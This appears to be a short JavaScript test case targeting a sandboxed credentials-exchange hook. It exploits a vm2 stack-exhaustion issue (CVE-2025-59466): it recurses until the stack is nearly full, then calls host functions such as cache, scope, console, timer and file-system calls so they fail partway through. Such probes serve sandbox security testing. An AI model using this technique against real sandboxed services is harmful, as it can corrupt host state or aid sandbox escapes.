// outcome: completed; claim last="set"; beside served
// vm2 and CVE-2025-59466: a call of the host's made with less and less of the stack left fails somewhere in its middle.
exports.onExecuteCredentialsExchange = async (event, api) => {
  const calls = [
    () => api.cache.get('key'),
    () => api.cache.delete('none'),
    () => api.transaction.addTargetScope(1),
    () => console.log(event),
    () => setTimeout(() => {}, 0),
    () => Promise.resolve().then(() => {}),
    () => require('node:fs').statSync(__filename),
  ]
  let left = 0
  const deep = (call) => {
    try {
      deep(call)
    } catch {
      // The stack is full: this close to its end the call is made.
    }
    if (left-- <= 0) return
    try {
      call()
    } catch {
      // In its middle.
    }
  }
  for (const call of calls) {
    left = 100
    deep(call)
  }
  api.accessToken.setCustomClaim('last', 'set')
}
